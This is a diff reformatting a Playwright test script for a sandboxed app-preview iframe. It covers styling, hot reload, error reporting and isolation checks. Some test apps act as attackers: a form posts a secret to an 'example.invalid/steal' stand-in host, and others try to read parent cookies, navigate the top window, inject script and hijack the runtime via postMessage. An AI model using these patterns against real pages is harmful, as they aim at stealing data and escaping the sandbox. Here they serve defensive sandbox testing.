@@ -15,7 +15,8 @@ function readApp(dir) {
     for (const name of readdirSync(d)) {
       const path = join(d, name);
       if (statSync(path).isDirectory()) walk(path);
-      else if (!name.endsWith('.snap') && name !== 'options.json') files[relative(dir, path)] = readFileSync(path, 'utf8');
+      else if (!name.endsWith('.snap') && name !== 'options.json')
+        files[relative(dir, path)] = readFileSync(path, 'utf8');
     }
   };
   walk(dir);
@@ -24,21 +25,38 @@ function readApp(dir) {
 
 const browser = await chromium.launch({
   executablePath: process.env.APPBUNDLE_CHROMIUM || '/usr/bin/chromium',
-  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
+  args: [
+    '--no-sandbox',
+    '--disable-gpu',
+    '--disable-background-networking',
+    '--disable-component-update',
+    '--no-first-run',
+  ],
 });
 const page = await browser.newPage();
 await page.goto(`${hostBase}/?preview=${encodeURIComponent(previewBase + '/preview')}`);
-await page.evaluate(() => { document.cookie = 'host-secret=42'; });
+await page.evaluate(() => {
+  document.cookie = 'host-secret=42';
+});
 const frame = () => page.frames().find((f) => f.url().startsWith(previewBase + '/preview'));
-await page.waitForFunction(() => window.__playground.messages.some((m) => m.type === 'rendered'), null, { timeout: 30000 });
-const frameTags = await frame().evaluate(() => document.querySelectorAll('script[src*="/runtime-deps/"]').length);
+await page.waitForFunction(
+  () => window.__playground.messages.some((m) => m.type === 'rendered'),
+  null,
+  { timeout: 30000 },
+);
+const frameTags = await frame().evaluate(
+  () => document.querySelectorAll('script[src*="/runtime-deps/"]').length,
+);
 
 // Loads files in the preview and waits for the outcome; returns messages seen for this load.
 async function load(files, wait = 'rendered') {
   const start = await page.evaluate(() => window.__playground.messages.length);
   await page.evaluate((f) => window.__playground.load(f), files);
   await page.waitForFunction(
-    ([from, wait]) => window.__playground.messages.slice(from).some((m) => m.type === wait || (wait === 'rendered' && m.type === 'error')),
+    ([from, wait]) =>
+      window.__playground.messages
+        .slice(from)
+        .some((m) => m.type === wait || (wait === 'rendered' && m.type === 'error')),
     [start, wait],
     { timeout: 30000 },
   );
@@ -53,7 +71,9 @@ for (const name of cases.apps) {
   const svg = await frame().evaluate(() => document.querySelectorAll('#root svg').length);
   out.apps[name] = {
     rendered: messages.some((m) => m.type === 'rendered'),
-    errors: messages.filter((m) => m.type === 'error' || (m.type === 'console' && m.level === 'error')).map((m) => m.message || m.args.join(' ')),
+    errors: messages
+      .filter((m) => m.type === 'error' || (m.type === 'console' && m.level === 'error'))
+      .map((m) => m.message || m.args.join(' ')),
     text: text.slice(0, 2000),
     svg,
   };
@@ -62,23 +82,30 @@ for (const name of cases.apps) {
 // Tailwind: the CSS generated for the app's classes is applied.
 await load({
   'App.tsx': [
-    "export default function App() {",
-    "  return (",
-    "    <div id=\"card\" className=\"flex flex-col gap-4 p-4 rounded-lg bg-blue-500 text-white font-bold\">",
-    "      <h1 id=\"title\" className=\"text-2xl\">Styled by Tailwind</h1>",
-    "    </div>",
-    "  );",
-    "}",
-    "",
+    'export default function App() {',
+    '  return (',
+    '    <div id="card" className="flex flex-col gap-4 p-4 rounded-lg bg-blue-500 text-white font-bold">',
+    '      <h1 id="title" className="text-2xl">Styled by Tailwind</h1>',
+    '    </div>',
+    '  );',
+    '}',
+    '',
   ].join('\n'),
 });
 out.checks.tailwind = await frame().evaluate(() => {
   const card = getComputedStyle(document.getElementById('card'));
   const title = getComputedStyle(document.getElementById('title'));
   return {
-    display: card.display, flexDirection: card.flexDirection, padding: card.padding, gap: card.rowGap,
-    borderRadius: card.borderTopLeftRadius, fontWeight: card.fontWeight, color: card.color,
-    background: card.backgroundColor, titleSize: title.fontSize, titleMargin: title.marginTop,
+    display: card.display,
+    flexDirection: card.flexDirection,
+    padding: card.padding,
+    gap: card.rowGap,
+    borderRadius: card.borderTopLeftRadius,
+    fontWeight: card.fontWeight,
+    color: card.color,
+    background: card.backgroundColor,
+    titleSize: title.fontSize,
+    titleMargin: title.marginTop,
   };
 });
 
@@ -86,23 +113,26 @@ out.checks.tailwind = await frame().evaluate(() => {
 // and dark under `.dark`.
 await load({
   'App.tsx': [
-    "export default function App() {",
-    "  return (",
-    "    <div>",
-    "      <button id=\"primary\" className=\"bg-primary text-primary-foreground border border-input\">Save</button>",
-    "      <div className=\"dark\"><p id=\"muted\" className=\"bg-background text-muted-foreground\">dark</p><p id=\"variant\" className=\"text-foreground dark:text-destructive\">variant</p></div>",
-    "    </div>",
-    "  );",
-    "}",
-    "",
+    'export default function App() {',
+    '  return (',
+    '    <div>',
+    '      <button id="primary" className="bg-primary text-primary-foreground border border-input">Save</button>',
+    '      <div className="dark"><p id="muted" className="bg-background text-muted-foreground">dark</p><p id="variant" className="text-foreground dark:text-destructive">variant</p></div>',
+    '    </div>',
+    '  );',
+    '}',
+    '',
   ].join('\n'),
 });
 out.checks.theme = await frame().evaluate(() => {
   const button = getComputedStyle(document.getElementById('primary'));
   const muted = getComputedStyle(document.getElementById('muted'));
   return {
-    background: button.backgroundColor, color: button.color, border: button.borderTopColor,
-    darkBackground: muted.backgroundColor, darkMuted: muted.color,
+    background: button.backgroundColor,
+    color: button.color,
+    border: button.borderTopColor,
+    darkBackground: muted.backgroundColor,
+    darkMuted: muted.color,
     darkVariant: getComputedStyle(document.getElementById('variant')).color,
   };
 });
@@ -114,15 +144,25 @@ out.checks.theme = await frame().evaluate(() => {
   await load(readApp(join(fixturesDir, 'ok-kit-dashboard')));
   const f = frame();
   const kit = {};
-  kit.components = await f.evaluate(() => [...new Set([...document.querySelectorAll('[data-slot]')].map((e) => e.dataset.slot.split('-')[0]))].sort());
+  kit.components = await f.evaluate(() =>
+    [
+      ...new Set(
+        [...document.querySelectorAll('[data-slot]')].map((e) => e.dataset.slot.split('-')[0]),
+      ),
+    ].sort(),
+  );
   // Colors before any pointer rests on a component (hover states change them).
   kit.styles = await f.evaluate(() => {
     const notify = getComputedStyle(document.getElementById('notify'));
     const card = getComputedStyle(document.getElementById('profile'));
     const tabsList = getComputedStyle(document.querySelector('[data-slot=tabs-list]'));
     return {
-      buttonBackground: notify.backgroundColor, buttonColor: notify.color, buttonHeight: notify.height, buttonRadius: notify.borderTopLeftRadius,
-      cardBorder: card.borderTopColor, cardRadius: card.borderTopLeftRadius,
+      buttonBackground: notify.backgroundColor,
+      buttonColor: notify.color,
+      buttonHeight: notify.height,
+      buttonRadius: notify.borderTopLeftRadius,
+      cardBorder: card.borderTopColor,
+      cardRadius: card.borderTopLeftRadius,
       tabsListBackground: tabsList.backgroundColor,
     };
   });
@@ -161,7 +201,10 @@ out.checks.theme = await frame().evaluate(() => {
   await page.waitForTimeout(300);
   const messages = await page.evaluate((from) => window.__playground.messages.slice(from), from);
   kit.errors = messages
-    .filter((m) => m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')))
+    .filter(
+      (m) =>
+        m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')),
+    )
     .map((m) => m.message || m.args.join(' '));
   out.checks.kit = kit;
 }
@@ -187,7 +230,10 @@ out.checks.theme = await frame().evaluate(() => {
   form.messageAfter = await message.count();
   const messages = await page.evaluate((from) => window.__playground.messages.slice(from), from);
   form.errors = messages
-    .filter((m) => m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')))
+    .filter(
+      (m) =>
+        m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')),
+    )
     .map((m) => m.message || m.args.join(' '));
   out.checks.kitForm = form;
 }
@@ -195,17 +241,26 @@ out.checks.theme = await frame().evaluate(() => {
 // A form that does not prevent its default cannot send anything: the preview's CSP has
 // `form-action 'none'`, so the frame stays where it is.
 await load({
-  'App.tsx': "export default () => <form action=\"http://example.invalid/steal\" method=\"post\"><input name=\"secret\" defaultValue=\"42\" /><button id=\"send\">send</button></form>;\n",
+  'App.tsx':
+    'export default () => <form action="http://example.invalid/steal" method="post"><input name="secret" defaultValue="42" /><button id="send">send</button></form>;\n',
 });
 await frame().locator('#send').click();
 await page.waitForTimeout(500);
-out.checks.formPost = { stayed: !!frame() && (await frame().locator('#send').count()) === 1, url: frame()?.url().split('?')[0] ?? null };
+out.checks.formPost = {
+  stayed: !!frame() && (await frame().locator('#send').count()) === 1,
+  url: frame()?.url().split('?')[0] ?? null,
+};
 
 // An app's own components/ui/button.tsx wins over the kit's.
 await load(readApp(join(fixturesDir, 'ok-kit-own-button')));
 out.checks.ownButton = await frame().evaluate(() => {
   const button = document.querySelector('#root button');
-  return { own: button.dataset.ownButton ?? null, slot: button.dataset.slot ?? null, text: button.innerText, kitCard: !!document.querySelector('[data-slot=card]') };
+  return {
+    own: button.dataset.ownButton ?? null,
+    slot: button.dataset.slot ?? null,
+    text: button.innerText,
+    kitCard: !!document.querySelector('[data-slot=card]'),
+  };
 });
 
 // A click changes state.
@@ -216,13 +271,21 @@ const after = await frame().locator('[data-testid=count]').innerText();
 out.checks.click = { before, after };
 
 // Hot reload: the page and its dependency scripts stay; the content changes.
-await frame().evaluate(() => { window.__marker = 'kept'; });
-const hot1 = await load({ 'App.tsx': "export default function App() { return <p id=\"v\">version one</p>; }\n" });
-const hot2 = await load({ 'App.tsx': "export default function App() { return <p id=\"v\">version two</p>; }\n" });
+await frame().evaluate(() => {
+  window.__marker = 'kept';
+});
+const hot1 = await load({
+  'App.tsx': 'export default function App() { return <p id="v">version one</p>; }\n',
+});
+const hot2 = await load({
+  'App.tsx': 'export default function App() { return <p id="v">version two</p>; }\n',
+});
 out.checks.hotReload = {
   marker: await frame().evaluate(() => window.__marker),
   text: await frame().evaluate(() => document.getElementById('v').innerText),
-  coreScripts: await frame().evaluate(() => document.querySelectorAll('script[src*="/runtime-deps/core."]').length),
+  coreScripts: await frame().evaluate(
+    () => document.querySelectorAll('script[src*="/runtime-deps/core."]').length,
+  ),
   warmLoadMs: hot2.find((m) => m.type === 'rendered')?.ms ?? null,
   coldishLoadMs: hot1.find((m) => m.type === 'rendered')?.ms ?? null,
 };
@@ -231,7 +294,9 @@ out.checks.hotReload = {
 // a cache miss), lucide + date-fns already loaded by earlier cases.
 out.timing = [];
 for (let i = 0; i < 10; i++) {
-  const messages = await load({ 'App.tsx': `import { useState } from 'react';\nimport { Heart } from 'lucide-react';\nimport { format } from 'date-fns';\nexport default function App() {\n  const [n, setN] = useState(${i});\n  return <button onClick={() => setN(n + 1)}><Heart /> {n} {format(new Date(2024, 0, 1), 'PP')}</button>;\n}\n` });
+  const messages = await load({
+    'App.tsx': `import { useState } from 'react';\nimport { Heart } from 'lucide-react';\nimport { format } from 'date-fns';\nexport default function App() {\n  const [n, setN] = useState(${i});\n  return <button onClick={() => setN(n + 1)}><Heart /> {n} {format(new Date(2024, 0, 1), 'PP')}</button>;\n}\n`,
+  });
   out.timing.push(messages.find((m) => m.type === 'rendered').ms);
 }
 
@@ -239,35 +304,52 @@ for (let i = 0; i < 10; i++) {
 const thrown = await load({
   'App.tsx': [
     "import { useState } from 'react';",
-    "",
-    "export default function App() {",
-    "  const [n] = useState(0);",
-    "  if (n === 0) {",
+    '',
+    'export default function App() {',
+    '  const [n] = useState(0);',
+    '  if (n === 0) {',
     "    throw new Error('broken on purpose');",
-    "  }",
-    "  return <p>never</p>;",
-    "}",
-    "",
+    '  }',
+    '  return <p>never</p>;',
+    '}',
+    '',
   ].join('\n'),
 });
 const renderError = thrown.find((m) => m.type === 'error');
-out.checks.renderError = renderError ? { message: renderError.message, file: renderError.file, line: renderError.line, frame: renderError.frame } : null;
-out.checks.overlay = await frame().evaluate(() => document.getElementById('appbundle-overlay')?.innerText ?? null);
+out.checks.renderError = renderError
+  ? {
+      message: renderError.message,
+      file: renderError.file,
+      line: renderError.line,
+      frame: renderError.frame,
+    }
+  : null;
+out.checks.overlay = await frame().evaluate(
+  () => document.getElementById('appbundle-overlay')?.innerText ?? null,
+);
 
 // An event handler error, too.
 await load({
-  'App.tsx': "export default function App() {\n  return <button onClick={() => {\n    JSON.parse('{oops');\n  }}>fail</button>;\n}\n",
+  'App.tsx':
+    "export default function App() {\n  return <button onClick={() => {\n    JSON.parse('{oops');\n  }}>fail</button>;\n}\n",
 });
 const clickErrorFrom = await page.evaluate(() => window.__playground.messages.length);
 await frame().getByText('fail').click();
 await page.waitForTimeout(300);
-const clickError = (await page.evaluate((from) => window.__playground.messages.slice(from), clickErrorFrom)).find((m) => m.type === 'error');
+const clickError = (
+  await page.evaluate((from) => window.__playground.messages.slice(from), clickErrorFrom)
+).find((m) => m.type === 'error');
 out.checks.handlerError = clickError ? { file: clickError.file, line: clickError.line } : null;
 
 // A build error from /bundle reaches the host with its position.
-const build = await load({ 'App.tsx': "import fs from 'fs';\nexport default () => <p>{String(fs)}</p>;\n" }, 'error');
+const build = await load(
+  { 'App.tsx': "import fs from 'fs';\nexport default () => <p>{String(fs)}</p>;\n" },
+  'error',
+);
 const buildError = build.find((m) => m.type === 'error');
-out.checks.buildError = buildError ? { kind: buildError.kind, code: buildError.code, line: buildError.line, file: buildError.file } : null;
+out.checks.buildError = buildError
+  ? { kind: buildError.kind, code: buildError.code, line: buildError.line, file: buildError.file }
+  : null;
 
 // useAppData and SandboxAPI.fetch go through the bridge to the host.
 await load(readApp(join(fixturesDir, 'ok-runtime-module')));
@@ -275,7 +357,9 @@ await frame().getByText('Add').click();
 await page.waitForTimeout(300);
 out.checks.bridge = {
   quote: await frame().evaluate(() => document.querySelector('blockquote').innerText),
-  shown: await frame().evaluate(() => Array.from(document.querySelectorAll('#root p')).map((p) => p.innerText)),
+  shown: await frame().evaluate(() =>
+    Array.from(document.querySelectorAll('#root p')).map((p) => p.innerText),
+  ),
   hostStore: await page.evaluate(() => window.__playground.store.notes.map((n) => n.text)),
 };
 
@@ -283,31 +367,35 @@ out.checks.bridge = {
 const logged = await load({
   'App.tsx': [
     "import { useEffect } from 'react';",
-    "export default function App() {",
-    "  useEffect(() => {",
+    'export default function App() {',
+    '  useEffect(() => {',
     "    console.log('hello from the app', { n: 1 });",
     "    Promise.reject(new Error('async failure'));",
-    "  }, []);",
-    "  return <p>logging</p>;",
-    "}",
-    "",
+    '  }, []);',
+    '  return <p>logging</p>;',
+    '}',
+    '',
   ].join('\n'),
 });
 await page.waitForTimeout(300);
 const afterLog = await page.evaluate(() => window.__playground.messages.slice(-20));
-const consoleMessage = [...logged, ...afterLog].find((m) => m.type === 'console' && m.level === 'log');
+const consoleMessage = [...logged, ...afterLog].find(
+  (m) => m.type === 'console' && m.level === 'log',
+);
 const rejection = afterLog.find((m) => m.type === 'error' && m.kind === 'unhandled rejection');
 out.checks.console = consoleMessage ? consoleMessage.args : null;
-out.checks.rejection = rejection ? { message: rejection.message, file: rejection.file, line: rejection.line } : null;
+out.checks.rejection = rejection
+  ? { message: rejection.message, file: rejection.file, line: rejection.line }
+  : null;
 
 // The app cannot drive the runtime: a load message it posts to its own window is ignored.
 await load({
   'App.tsx': [
-    "export default function App() {",
+    'export default function App() {',
     "  window.postMessage({ source: 'appbundle-preview', version: 1, type: 'load', files: { 'App.tsx': 'export default () => <p id=\"hijack\">hijacked</p>;' } }, '*');",
-    "  return <p id=\"original\">original</p>;",
-    "}",
-    "",
+    '  return <p id="original">original</p>;',
+    '}',
+    '',
   ].join('\n'),
 });
 await page.waitForTimeout(800);
@@ -319,40 +407,51 @@ out.checks.selfMessage = await frame().evaluate(() => ({
 // Isolation: parent DOM and cookies, top navigation, inline script (CSP).
 await load({
   'App.tsx': [
-    "function attempt(f: () => unknown): string {",
+    'function attempt(f: () => unknown): string {',
     "  try { return 'allowed: ' + String(f()); } catch (e) { return 'blocked: ' + (e as Error).name; }",
-    "}",
-    "export default function App() {",
-    "  const parentDom = attempt(() => window.parent.document.title);",
-    "  const parentCookie = attempt(() => window.parent.document.cookie);",
-    "  const ownCookie = attempt(() => document.cookie);",
-    "  const storage = attempt(() => window.localStorage.length);",
+    '}',
+    'export default function App() {',
+    '  const parentDom = attempt(() => window.parent.document.title);',
+    '  const parentCookie = attempt(() => window.parent.document.cookie);',
+    '  const ownCookie = attempt(() => document.cookie);',
+    '  const storage = attempt(() => window.localStorage.length);',
     "  const top = attempt(() => { window.top!.location.href = 'http://example.invalid/'; return 'assigned'; });",
     "  const script = document.createElement('script');",
     "  script.textContent = 'window.__injected = true';",
-    "  document.body.appendChild(script);",
-    "  return <pre id=\"isolation\">{JSON.stringify({ parentDom, parentCookie, ownCookie, storage, top, injected: (window as any).__injected === true })}</pre>;",
-    "}",
-    "",
+    '  document.body.appendChild(script);',
+    '  return <pre id="isolation">{JSON.stringify({ parentDom, parentCookie, ownCookie, storage, top, injected: (window as any).__injected === true })}</pre>;',
+    '}',
+    '',
   ].join('\n'),
 });
 await page.waitForTimeout(300);
-out.checks.isolation = JSON.parse(await frame().evaluate(() => document.getElementById('isolation').innerText));
+out.checks.isolation = JSON.parse(
+  await frame().evaluate(() => document.getElementById('isolation').innerText),
+);
 out.checks.hostUrl = page.url();
-out.checks.resized = await page.evaluate(() => window.__playground.messages.some((m) => m.type === 'resize' && m.height > 0));
+out.checks.resized = await page.evaluate(() =>
+  window.__playground.messages.some((m) => m.type === 'resize' && m.height > 0),
+);
 
 // Standalone: /preview?hash=<hash> with no host renders the app by itself.
 const standalone = await browser.newPage();
-const bundled = await (await fetch(`${previewBase}/bundle`, {
-  method: 'POST',
-  headers: { 'content-type': 'text/plain' },
-  body: "import { useState } from 'react';\nexport default function App() { const [n] = useState(41); return <p id=\"alone\">{n + 1}</p>; }\n",
-})).json();
+const bundled = await (
+  await fetch(`${previewBase}/bundle`, {
+    method: 'POST',
+    headers: { 'content-type': 'text/plain' },
+    body: 'import { useState } from \'react\';\nexport default function App() { const [n] = useState(41); return <p id="alone">{n + 1}</p>; }\n',
+  })
+).json();
 const standaloneErrors = [];
-standalone.on('console', (m) => { if (m.type() === 'error') standaloneErrors.push(m.text()); });
+standalone.on('console', (m) => {
+  if (m.type() === 'error') standaloneErrors.push(m.text());
+});
 await standalone.goto(`${previewBase}/preview?hash=${bundled.hash}`);
 await standalone.waitForSelector('#alone', { timeout: 15000 });
-out.checks.standalone = { text: await standalone.locator('#alone').innerText(), errors: standaloneErrors };
+out.checks.standalone = {
+  text: await standalone.locator('#alone').innerText(),
+  errors: standaloneErrors,
+};
 
 await browser.close();
 console.log(JSON.stringify(out));
